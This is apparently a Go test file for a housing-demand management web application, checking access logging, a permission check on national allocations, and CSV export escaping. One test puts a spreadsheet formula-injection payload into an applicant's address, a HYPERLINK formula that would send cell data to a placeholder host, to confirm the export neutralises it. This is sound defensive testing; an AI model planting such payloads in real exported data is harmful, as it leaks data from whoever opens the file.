package manager_test

import (
	"errors"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/fichier-unique/rules/charter/access"
	"github.com/fichier-unique/rules/examples/internal/registry/registrytest"
	"github.com/fichier-unique/rules/examples/internal/store"
)

// The page of a list shows unique numbers: the journal of accesses says how many.
func TestListIsWritten(t *testing.T) {
	o := open(t, "2011-03-10")
	o.register("Abadie", "")
	o.Day("2012-02-10")
	before, _, err := o.Accesses(t.Context(), 0, 1000)
	if err != nil {
		t.Fatal(err)
	}
	o.get("/gestion/listes/notice_to_send")
	after, _, err := o.Accesses(t.Context(), 0, 1000)
	if err != nil {
		t.Fatal(err)
	}
	if len(after) != len(before)+1 || after[len(after)-1].Act != access.Search || after[len(after)-1].Count != 1 {
		t.Errorf("%d lines were written", len(after)-len(before))
	}
}

// Who may manage the file and not modify demands changes none by way of the national
// system: the right is asked before the act.
func TestAllocationWantsTheRight(t *testing.T) {
	o := open(t, "2013-06-10")
	one := o.register("Abadie", "")
	o.may = []access.Act{access.Manage, access.Search}
	w := httptest.NewRecorder()
	r := httptest.NewRequest("POST", "/gestion/national/attribution/"+one.Demand, strings.NewReader(url.Values{"bail": {"2013-06-08"}, "loyer": {"412,50"}}.Encode()))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	o.rt.ServeHTTP(w, r)
	if w.Code != 403 {
		t.Errorf("%d", w.Code)
	}
	if rec, err := o.Store().Record(t.Context(), "national-allocation", one.Demand, o.Now()); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("it was kept: %s, %v", rec.Body, err)
	}
}

// What an applicant typed is no formula of the spreadsheet of who sends the letters.
func TestListHoldsNoFormula(t *testing.T) {
	o := open(t, "2011-03-10")
	f := registrytest.Household(1)
	f.Applicant.Address.Street, f.Applicant.Address.Complement = `=HYPERLINK("https://x.example/?"&A1)`, " @SUM(1+1)"
	o.File.Register(landlord, f)
	o.Day("2012-02-10")
	o.has(o.get("/gestion/listes/notice_to_send/export.csv"), `'=HYPERLINK`, `' @SUM(`)
}
